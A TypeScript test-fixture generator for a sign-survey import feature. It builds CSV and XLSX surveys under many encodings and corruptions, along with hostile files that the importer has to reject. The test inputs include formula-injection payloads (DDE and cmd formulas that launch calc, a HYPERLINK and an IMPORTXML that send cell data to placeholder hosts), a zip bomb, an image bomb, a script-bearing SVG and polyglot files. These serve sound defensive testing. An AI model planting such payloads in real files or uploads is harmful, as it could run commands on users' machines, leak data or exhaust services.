import { Workbook } from 'exceljs';
import fc from 'fast-check';
import { zipSync } from 'fflate';
import { encode } from 'iconv-lite';
import { csv, damages, fraction } from './malformed-tables';
import {
  animated,
  bomb,
  cmyk,
  jpeg,
  phonePhoto,
  polyglot,
  seeThrough,
  sixteenBit,
  svg,
  truncated,
} from './pictures';

/** A survey as somebody might hand it in; codes begin with `mark`, so that none touches another's signs. */
export interface MadeSurvey {
  readonly description: string;
  readonly content: Buffer;
  /** How many signs it enters; undefined: it has to be refused; 'any': broken at random, read correctly or refused. */
  readonly enters: number | undefined | 'any';
}

type Cells = string[][];

const head = ['编号', '片区', '中文', '英文', '用途', '设置日期', '纬度', '经度'];
const rowOf = (code: string, zh = '出口', en = 'Exit'): string[] => [
  code,
  '试验区',
  zh,
  en,
  '设施',
  '2026-03-01',
  '39.9073',
  '116.3911',
];

/** What can be wrong, or merely unusual, in a survey's cells. */
interface Turn {
  readonly name: string;
  readonly refused: boolean | 'where the encoding keeps them';
  readonly turn: (cells: Cells, at: number) => void;
}

function set(cells: Cells, row: number, column: number, value: string): void {
  const cell = cells[row];
  if (cell) cell[column] = value;
}

const setAll = (cells: Cells, row: number, values: Readonly<Record<number, string>>): void => {
  for (const [column, value] of Object.entries(values)) set(cells, row, Number(column), value);
};

function eachRow(cells: Cells, change: (row: string[]) => unknown): void {
  for (const row of cells) change(row);
}

const formulas = [
  '=HYPERLINK("http://example.org/?"&A1,"点这里")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd',
  '+1+1',
  '-2+3',
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
];

const turns: readonly Turn[] = [
  { name: 'as it is', refused: false, turn: () => undefined },
  { name: 'a title above', refused: false, turn: (cells) => cells.unshift(['普查表'], []) },
  { name: 'empty rows', refused: false, turn: (cells, at) => cells.splice(at, 0, ['', ''], []) },
  { name: 'columns reversed', refused: false, turn: (cells) => eachRow(cells, (row) => row.reverse()) },
  {
    name: 'a column nobody knows',
    refused: false,
    turn: (cells) => eachRow(cells, (row) => row.push(row === cells[0] ? '摄影' : '=1+1')),
  },
  { name: 'blanks around', refused: false, turn: (cells, at) => set(cells, at, 3, '  Exit\u3000') },
  { name: 'a line break in a text', refused: false, turn: (cells, at) => set(cells, at, 2, '出口\n北侧') },
  { name: 'another date', refused: false, turn: (cells, at) => set(cells, at, 5, '2026年3月1日') },
  { name: 'no place', refused: false, turn: (cells, at) => setAll(cells, at, { 6: '', 7: '' }) },
  {
    name: 'no code',
    refused: false,
    turn: (cells, at) => setAll(cells, at, { 0: '', 2: `出口${cells[at]?.[0]}` }),
  },
  ...formulas.map((formula) => ({
    name: `formula ${formula.slice(0, 8)}`,
    refused: false,
    turn: (cells: Cells, at: number) => set(cells, at, 3, formula),
  })),
  { name: 'no headings', refused: true, turn: (cells) => cells.shift() },
  { name: 'a code with blanks', refused: true, turn: (cells, at) => set(cells, at, 0, 'A 1') },
  { name: 'a code that is a formula', refused: true, turn: (cells, at) => set(cells, at, 0, '=A1') },
  { name: 'a kind there is not', refused: true, turn: (cells, at) => set(cells, at, 4, '飞碟') },
  { name: 'a day there is not', refused: true, turn: (cells, at) => set(cells, at, 5, '2026-02-30') },
  { name: 'a date in words', refused: true, turn: (cells, at) => set(cells, at, 5, '去年') },
  { name: 'degrees and minutes', refused: true, turn: (cells, at) => set(cells, at, 6, '39°54′') },
  { name: 'off the globe', refused: true, turn: (cells, at) => set(cells, at, 6, '399.07') },
  { name: 'half a position', refused: true, turn: (cells, at) => set(cells, at, 7, '') },
  { name: 'an error of Excel', refused: true, turn: (cells, at) => set(cells, at, 6, '#REF!') },
  { name: 'a text without end', refused: true, turn: (cells, at) => set(cells, at, 3, 'Exit '.repeat(500)) },
  {
    name: 'turned letters',
    refused: 'where the encoding keeps them',
    turn: (cells, at) => set(cells, at, 3, 'Ex\u202etixe'),
  },
  { name: 'a code twice', refused: true, turn: (cells, at) => cells.push([...(cells[at] ?? [])]) },
  { name: 'neither text', refused: true, turn: (cells, at) => setAll(cells, at, { 2: '', 3: '' }) },
];

async function xlsx(cells: Cells, merged: boolean): Promise<Buffer> {
  const workbook = new Workbook();
  const sheet = workbook.addWorksheet('普查');
  for (const row of cells) sheet.addRow(row);
  // A merged cell says the same for every row that it covers: here all rows have the same area.
  if (merged && cells[0]?.[1] === '片区' && cells.every(({ length }) => length === head.length))
    sheet.mergeCells(2, 2, cells.length, 2);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

const writers: Readonly<Record<string, (cells: Cells) => Buffer | Promise<Buffer>>> = {
  'UTF-8': (cells) => Buffer.from(csv(cells, ',', '\n')),
  BOM: (cells) => Buffer.from(`\uFEFF${csv(cells, ',', '\r\n')}`),
  GBK: (cells) => encode(csv(cells, ',', '\r\n'), 'gbk'),
  'UTF-16': (cells) => encode(csv(cells, '\t', '\r\n'), 'utf-16'),
  semicolons: (cells) => Buffer.from(csv(cells, ';', '\n')),
  XLSX: (cells) => xlsx(cells, false),
  'XLSX, merged': (cells) => xlsx(cells, true),
};

/** The making of one survey. */
export const surveyRecipe = fc.record({
  signs: fc.integer({ min: 2, max: 6 }),
  turn: fc.constantFrom(...turns),
  at: fraction,
  writer: fc.constantFrom(...Object.keys(writers)),
  damage: fc.constantFrom('none', 'none', 'none', ...Object.keys(damages).slice(1)),
  damagedAt: fraction,
});
type Recipe = typeof surveyRecipe extends fc.Arbitrary<infer Value> ? Value : never;

/** Makes a survey whose codes begin with `mark`. */
export async function makeSurvey(recipe: Recipe, mark: string): Promise<MadeSurvey> {
  const { signs, turn, at, writer, damage, damagedAt } = recipe;
  const cells = [[...head], ...Array.from({ length: signs }, (_, index) => rowOf(`${mark}-${index}`))];
  turn.turn(cells, 1 + Math.floor(at * (signs - 1)));
  const whole = (await writers[writer]?.(cells)) ?? Buffer.alloc(0);
  const content = damages[damage]?.(whole, damagedAt) ?? whole;
  return {
    description: `${turn.name}, ${writer}, damage: ${damage}`,
    content,
    enters: damage !== 'none' || typeof turn.refused === 'string' ? 'any' : turn.refused ? undefined : signs,
  };
}

/** Files that are no surveys at all, each of which must be refused. */
export function hostileFiles(): Record<string, Buffer> {
  const zeros = new Uint8Array(80 * 1024 * 1024);
  return {
    empty: Buffer.alloc(0),
    'zip bomb': Buffer.from(zipSync({ 'xl/worksheets/sheet1.xml': [zeros, { level: 9 }] })),
    'zip without a workbook': Buffer.from(zipSync({ 'a.txt': new Uint8Array(3) })),
    'old XLS': Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    'zip magic alone': Buffer.from('PK\x03\x04'),
    binary: Buffer.from(Array.from({ length: 512 }, (_, at) => (at * 37) % 256)),
    'an open quote': Buffer.from('编号,中文,英文\nA,"出口,Exit\n'.repeat(3)),
    'one endless line': Buffer.from(','.repeat(200_000)),
    HTML: Buffer.from('<html><table><tr><td>编号</td></tr></table></html>'),
    'PDF and zip in one': Buffer.concat([
      Buffer.from('%PDF-1.4\n'),
      Buffer.from(zipSync({ 'xl/workbook.xml': new Uint8Array(10) })),
    ]),
    'a lying zip': Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(2_000, 0xff)]),
  };
}

/** Pictures good and bad; a bad one must be refused, a good one comes out as a plain JPEG. */
export async function pictureZoo(): Promise<{ good: Buffer[]; bad: Buffer[]; mixed: Buffer[] }> {
  return {
    good: [await jpeg(), await phonePhoto(), await cmyk(), await sixteenBit(), await seeThrough()],
    bad: [
      await truncated(),
      bomb(60_000),
      svg('<script/>'),
      svg('<rect/>'),
      Buffer.from('GIF89a'),
      Buffer.alloc(64),
    ],
    // Read as the picture that they also are, without what hangs on it; or refused.
    mixed: [await polyglot(), await animated()],
  };
}
